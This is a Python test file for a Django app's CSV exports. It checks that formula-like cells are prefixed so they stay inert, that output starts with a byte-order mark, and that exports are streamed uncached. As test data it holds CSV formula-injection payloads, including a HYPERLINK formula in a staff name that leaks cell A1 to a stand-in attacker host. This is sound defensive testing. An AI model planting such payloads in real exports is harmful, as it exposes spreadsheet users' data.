"""CSV exports: formula cells neutralised, a byte-order mark, streamed (docs/security.md, "CSV exports")."""

import csv
import io

import pytest
from django.http import StreamingHttpResponse

from accounts.models import TeamMembership
from accounts.services import team_membership_add
from config.exports import csv_lines, neutralise
from tests.factories import StudentFactory, UserFactory
from timelines.models import Deadline

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://x\",\"y\")", "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_formula_like_text_becomes_inert_text(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(("value", "cell"), [("Conceição", "Conceição"), (-3, "-3"), (12, "12"), (None, ""),
                                             ("a=b", "a=b"), ("", "")])
def test_ordinary_cells_are_left_alone(value, cell):
    assert neutralise(value) == cell


def test_lines_start_with_a_byte_order_mark_and_quote_properly():
    text = "".join(csv_lines(["Name"], [["Conceição, Ana"], ["=1+1"]]))
    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text[1:]))) == [["Name"], ["Conceição, Ana"], ["'=1+1"]]


def test_a_crafted_staff_name_exported_by_a_teacher_is_not_a_formula(personas, client):
    """An administrator names a chair `=HYPERLINK(...)`; the chair's caseload export shows it as text."""
    chair = UserFactory(district=personas["district"], first_name='=HYPERLINK("http://evil.example/?"&A1',
                        last_name='"click")')
    student = StudentFactory(district=personas["district"], school=personas["school_a"], first_name="Conceição")
    team_membership_add(student=student, user=chair, team_role=TeamMembership.TeamRole.CHAIR)
    Deadline.objects.create(student=student, school=student.school, key="annual_review", cycle="2026-01-01",
                            trigger="x", due="2026-05-01", citation="c", basis="b", status="upcoming",
                            computed_at="2026-01-01T00:00:00Z")
    client.force_login(chair)
    response = client.get("/dashboard/deadlines.csv?list=caseload&status=all")
    assert response.status_code == 200 and isinstance(response, StreamingHttpResponse)
    assert "no-store" in response["Cache-Control"]
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode()[1:])))
    chair_cells = [row[7] for row in rows[1:]]
    assert chair_cells and all(cell.startswith("'=HYPERLINK") for cell in chair_cells)
    assert any("Conceição" in row[0] for row in rows[1:])
